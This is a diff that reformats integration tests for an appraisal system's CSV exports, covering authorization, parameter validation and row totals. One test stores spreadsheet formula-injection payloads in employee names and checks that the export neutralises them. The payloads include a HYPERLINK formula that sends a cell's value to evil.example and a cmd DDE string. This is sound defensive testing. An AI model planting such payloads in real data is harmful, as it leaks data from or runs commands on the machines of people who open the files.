@@ -55,9 +55,11 @@ describe('analytics CSV exports', () => {
   }, 120_000);
   afterAll(() => app?.stop());
 
-  const url = (path: string, params: Record<string, string | undefined> = {}) => exportUrl(app, path, { unitId: unitGid(fx.dinkes), periodId: pid, ...params });
+  const url = (path: string, params: Record<string, string | undefined> = {}) =>
+    exportUrl(app, path, { unitId: unitGid(fx.dinkes), periodId: pid, ...params });
   const graphql = async (token: string, vars: Record<string, unknown> = {}) =>
-    (await app.data<{ analytics: AnalyticsOut }>(ANALYTICS_QUERY(), { u: unitGid(fx.dinkes), p: pid, ...vars }, token)).analytics;
+    (await app.data<{ analytics: AnalyticsOut }>(ANALYTICS_QUERY(), { u: unitGid(fx.dinkes), p: pid, ...vars }, token))
+      .analytics;
 
   /** The CSV rows a list of GraphQL groups should give, as strings, in the export's columns. */
   const expectedRows = {
@@ -136,21 +138,43 @@ describe('analytics CSV exports', () => {
   it('a breakdown by position kind and a unit without subunits reach the export as parameters', async () => {
     const kinds = await getCsv(url('analytics/distribution.csv', { breakdown: 'POSITION_KIND' }), fx.tokens.hr);
     expect(kinds.rows).toEqual(expectedRows.distribution(await graphql(fx.tokens.hr, { b: 'POSITION_KIND' })));
-    const own = await getCsv(url('analytics/completion.csv', { unitId: unitGid(fx.pkm), includeSubunits: 'false' }), fx.tokens.hr);
-    expect(own.rows.map((r) => [r.key, r.employees, r.draft, r.submitted, r.approved, r.evaluated])).toEqual([[unitGid(fx.pkm), '9', '1', '1', '1', '6']]);
+    const own = await getCsv(
+      url('analytics/completion.csv', { unitId: unitGid(fx.pkm), includeSubunits: 'false' }),
+      fx.tokens.hr,
+    );
+    expect(own.rows.map((r) => [r.key, r.employees, r.draft, r.submitted, r.approved, r.evaluated])).toEqual([
+      [unitGid(fx.pkm), '9', '1', '1', '1', '6'],
+    ]);
   });
 
   it('appraisal-results.csv: one row per plan for HR, summing to the distribution and completion figures', async () => {
     const res = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
-    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="appraisal-results-2027-${fx.dinkes.code}.csv"`);
+    expect(res.headers.get('content-disposition')).toBe(
+      `attachment; filename="appraisal-results-2027-${fx.dinkes.code}.csv"`,
+    );
     expect(res.headers.get('cache-control')).toMatch(/no-store/);
     expect(Object.keys(res.rows[0]!)).toEqual([
-      'nip', 'name', 'unit_code', 'unit_name', 'position_title', 'position_kind', 'grade', 'status', 'result_rating', 'behavior_rating', 'predikat', 'credit_points', 'objection', 'delivered_at',
+      'nip',
+      'name',
+      'unit_code',
+      'unit_name',
+      'position_title',
+      'position_kind',
+      'grade',
+      'status',
+      'result_rating',
+      'behavior_rating',
+      'predikat',
+      'credit_points',
+      'objection',
+      'delivered_at',
     ]);
     expect(res.rows).toHaveLength(14);
-    const nips = [fx.kadinkes, fx.head, fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort();
+    const nips = [fx.kadinkes, fx.head, fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)]
+      .map((x) => x.nip)
+      .sort();
     expect(res.rows.map((r) => r.nip).sort()).toEqual(nips);
     const hr = await graphql(fx.tokens.hr);
     const units = { [fx.dinkes.code]: fx.dinkes, [fx.pkm.code]: fx.pkm, [fx.pustu.code]: fx.pustu };
@@ -158,17 +182,31 @@ describe('analytics CSV exports', () => {
       const mine = res.rows.filter((r) => r.unit_code === code);
       const dist = hr.distribution.find((g) => g.key === unitGid(unit))!;
       expect(mine).toHaveLength(dist.employees);
-      expect(PREDIKATS.map((p) => mine.filter((r) => r.predikat === p).length)).toEqual(dist.counts.map((c) => c.count));
+      expect(PREDIKATS.map((p) => mine.filter((r) => r.predikat === p).length)).toEqual(
+        dist.counts.map((c) => c.count),
+      );
       expect(mine.filter((r) => r.predikat === '').length).toBe(dist.pending);
       const done = hr.completion.find((g) => g.key === unitGid(unit))!;
       const count = (s: string) => mine.filter((r) => r.status === s).length;
-      expect([count('DRAFT'), count('SUBMITTED'), count('RETURNED'), count('APPROVED'), count('REVISING'), count('EVALUATED'), count('FINAL')]).toEqual([
-        done.draft, done.submitted, done.returned, done.approved, done.revising, done.evaluated, done.final,
-      ]);
+      expect([
+        count('DRAFT'),
+        count('SUBMITTED'),
+        count('RETURNED'),
+        count('APPROVED'),
+        count('REVISING'),
+        count('EVALUATED'),
+        count('FINAL'),
+      ]).toEqual([done.draft, done.submitted, done.returned, done.approved, done.revising, done.evaluated, done.final]);
     }
     // The finalized Pustu plans carry their delivery; the row of the lead reads as rated.
     const leadRow = res.rows.find((r) => r.nip === fx.lead.nip)!;
-    expect(leadRow).toMatchObject({ status: 'FINAL', result_rating: 'SESUAI_EKSPEKTASI', behavior_rating: 'DI_BAWAH_EKSPEKTASI', predikat: 'KURANG_MISCONDUCT', unit_name: 'Pustu Walesi' });
+    expect(leadRow).toMatchObject({
+      status: 'FINAL',
+      result_rating: 'SESUAI_EKSPEKTASI',
+      behavior_rating: 'DI_BAWAH_EKSPEKTASI',
+      predikat: 'KURANG_MISCONDUCT',
+      unit_name: 'Pustu Walesi',
+    });
     expect(leadRow.delivered_at).not.toBe('');
   });
 
@@ -183,25 +221,43 @@ describe('analytics CSV exports', () => {
     expect(peer.text.trim().split('\n')).toHaveLength(1);
     // A scoped HR admin of the Pustu: its four plans; the Puskesmas is not hers (404).
     const scoped = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.scopedHr);
-    expect(scoped.rows.map((r) => r.nip).sort()).toEqual([fx.lead, ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort());
-    expect((await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.scopedHr)).status).toBe(404);
+    expect(scoped.rows.map((r) => r.nip).sort()).toEqual(
+      [fx.lead, ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort(),
+    );
+    expect((await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.scopedHr)).status).toBe(
+      404,
+    );
   });
 
   it('refuses: 401 without or with a bad token, 400 for missing or bad parameters, 404 for an unknown unit or export, 403 for analysts on row-level results', async () => {
     const paths = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
     const expired = await app.token('bps-analytics', { roles: [Role.ANALYST], expiresIn: -60 });
-    const forged = await app.token('bps-analytics', { roles: [Role.ANALYST], secret: 'not-the-secret-of-this-server-0123456789abcdef' });
+    const forged = await app.token('bps-analytics', {
+      roles: [Role.ANALYST],
+      secret: 'not-the-secret-of-this-server-0123456789abcdef',
+    });
     for (const path of paths) {
       for (const token of [null, 'garbage', expired, forged]) {
         const res = await getCsv(url(path), token);
         expect([path, res.status, res.text.includes('UNAUTHENTICATED')]).toEqual([path, 401, true]);
       }
-      expect([path, (await getCsv(url(path, { unitId: undefined, periodId: undefined }), fx.tokens.hr)).status]).toEqual([path, 400]);
-      expect([path, (await getCsv(exportUrl(app, path, { unitId: unitGid(fx.dinkes) }), fx.tokens.hr)).status]).toEqual([path, 400]);
+      expect([
+        path,
+        (await getCsv(url(path, { unitId: undefined, periodId: undefined }), fx.tokens.hr)).status,
+      ]).toEqual([path, 400]);
+      expect([path, (await getCsv(exportUrl(app, path, { unitId: unitGid(fx.dinkes) }), fx.tokens.hr)).status]).toEqual(
+        [path, 400],
+      );
       expect([path, (await getCsv(url(path, { includeSubunits: 'maybe' }), fx.tokens.hr)).status]).toEqual([path, 400]);
       expect([path, (await getCsv(url(path, { breakdown: 'GENDER' }), fx.tokens.hr)).status]).toEqual([path, 400]);
-      expect([path, (await getCsv(url(path, { unitId: unitGid({ id: 987_654 } as never) }), fx.tokens.hr)).status]).toEqual([path, 404]);
-      expect([path, (await getCsv(url(path, { periodId: unitGid(fx.pkm) }), fx.tokens.hr)).status]).toEqual([path, 404]);
+      expect([
+        path,
+        (await getCsv(url(path, { unitId: unitGid({ id: 987_654 } as never) }), fx.tokens.hr)).status,
+      ]).toEqual([path, 404]);
+      expect([path, (await getCsv(url(path, { periodId: unitGid(fx.pkm) }), fx.tokens.hr)).status]).toEqual([
+        path,
+        404,
+      ]);
       expect([path, (await getCsv(url(path), fx.tokens.integration)).status]).toEqual([path, 404]);
     }
     expect((await getCsv(url('analytics/salaries.csv'), fx.tokens.hr)).status).toBe(404);
@@ -218,7 +274,10 @@ describe('analytics CSV exports', () => {
     const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
     await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.id]);
     await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.id]);
-    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, ['@SUM(1+1)', fx.b[1]!.owner.id]);
+    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
+      '@SUM(1+1)',
+      fx.b[1]!.owner.id,
+    ]);
     await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, ['-2+3', fx.b[0]!.owner.id]);
     try {
       const dist = await getCsv(url('analytics/distribution.csv'), fx.tokens.hr);
@@ -232,7 +291,10 @@ describe('analytics CSV exports', () => {
       expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
     } finally {
       await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.id]);
-      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [oldName, fx.b[2]!.owner.id]);
+      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
+        oldName,
+        fx.b[2]!.owner.id,
+      ]);
     }
   });
 
@@ -241,16 +303,26 @@ describe('analytics CSV exports', () => {
     const people = [...fx.n, ...fx.b];
     const units = [fx.dinkes, fx.pkm, fx.pustu];
     const saved = {
-      people: (await app.db.manager.query(`SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.id).join(', ')})`)) as Array<{ id: number; name: string }>,
-      titles: (await app.db.manager.query(`SELECT id, position_title FROM ${escape('appraisal')} WHERE id IN (${people.map((m) => dbIdOf(m.plan.id)).join(', ')})`)) as Array<{ id: number; position_title: string }>,
-      units: (await app.db.manager.query(`SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.id).join(', ')})`)) as Array<{ id: number; name: string }>,
+      people: (await app.db.manager.query(
+        `SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.id).join(', ')})`,
+      )) as Array<{ id: number; name: string }>,
+      titles: (await app.db.manager.query(
+        `SELECT id, position_title FROM ${escape('appraisal')} WHERE id IN (${people.map((m) => dbIdOf(m.plan.id)).join(', ')})`,
+      )) as Array<{ id: number; position_title: string }>,
+      units: (await app.db.manager.query(
+        `SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.id).join(', ')})`,
+      )) as Array<{ id: number; name: string }>,
     };
     const payload = (i: number) => CSV_PAYLOADS[i % CSV_PAYLOADS.length]!;
     for (const [i, m] of people.entries()) {
       await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [payload(i), m.owner.id]);
-      await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [payload(i + people.length), dbIdOf(m.plan.id)]);
+      await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
+        payload(i + people.length),
+        dbIdOf(m.plan.id),
+      ]);
     }
-    for (const [i, u] of units.entries()) await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.id]);
+    for (const [i, u] of units.entries())
+      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.id]);
     try {
       const files = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
       const texts: string[] = [];
@@ -264,27 +336,44 @@ describe('analytics CSV exports', () => {
       // Every payload reached an export (names, plan titles, unit labels).
       const results = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
       const renamed = new Set(people.map((m) => m.owner.nip));
-      expect(results.rows.filter((r) => renamed.has(r.nip!)).map((r) => [r.name!.includes("'"), r.position_title!.includes("'")])).toEqual(people.map(() => [true, true]));
+      expect(
+        results.rows
+          .filter((r) => renamed.has(r.nip!))
+          .map((r) => [r.name!.includes("'"), r.position_title!.includes("'")]),
+      ).toEqual(people.map(() => [true, true]));
       for (const text of texts) {
         // Every field is quoted.
         expect(text.split('\n')[0]).toMatch(/^"[a-z_]+"(,"[A-Za-z_]+")*$/);
-        for (const delimiter of [',', ';', '\t', '|']) expect([delimiter, spreadsheetCells(text, delimiter).filter((c) => !readsAsText(c))]).toEqual([delimiter, []]);
+        for (const delimiter of [',', ';', '\t', '|'])
+          expect([delimiter, spreadsheetCells(text, delimiter).filter((c) => !readsAsText(c))]).toEqual([
+            delimiter,
+            [],
+          ]);
         expect(naivePieces(text).filter((c) => !readsAsText(c))).toEqual([]);
       }
       // A strict CSV reader gets the names back, apostrophes added only where a cell could begin a formula.
       const byNip = Object.fromEntries(results.rows.map((r) => [r.nip, r]));
-      expect(byNip[people[CSV_PAYLOADS.indexOf("Hendrik;=cmd|'/C calc'!A0;x")]!.owner.nip]!.name).toBe("Hendrik;'=cmd|'/C calc'!A0;x");
+      expect(byNip[people[CSV_PAYLOADS.indexOf("Hendrik;=cmd|'/C calc'!A0;x")]!.owner.nip]!.name).toBe(
+        "Hendrik;'=cmd|'/C calc'!A0;x",
+      );
       expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
     } finally {
-      for (const r of saved.people) await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [r.name, r.id]);
-      for (const r of saved.titles) await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [r.position_title, r.id]);
-      for (const r of saved.units) await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [r.name, r.id]);
+      for (const r of saved.people)
+        await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [r.name, r.id]);
+      for (const r of saved.titles)
+        await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
+          r.position_title,
+          r.id,
+        ]);
+      for (const r of saved.units)
+        await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [r.name, r.id]);
     }
   });
 
   it('an analyst gets the four breakdowns in one GraphQL request and as CSV, the same figures', async () => {
     const a = await graphql(fx.tokens.analyst);
-    for (const kind of KINDS) expect((await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst)).rows).toEqual(expectedRows[kind](a));
+    for (const kind of KINDS)
+      expect((await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst)).rows).toEqual(expectedRows[kind](a));
     expect(dbIdOf(pid)).toBeGreaterThan(0);
   });
 });
@@ -322,7 +411,9 @@ describe('a 100,000-row appraisal-results export', () => {
     };
     const timer = setInterval(sampleListeners, 5);
     try {
-      const res = await fetch(exportUrl(app, 'appraisal-results.csv', { unitId, periodId: period.id }), { headers: { authorization: `Bearer ${p.hr}` } });
+      const res = await fetch(exportUrl(app, 'appraisal-results.csv', { unitId, periodId: period.id }), {
+        headers: { authorization: `Bearer ${p.hr}` },
+      });
       expect(res.status).toBe(200);
       expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
       const reader = res.body!.getReader();
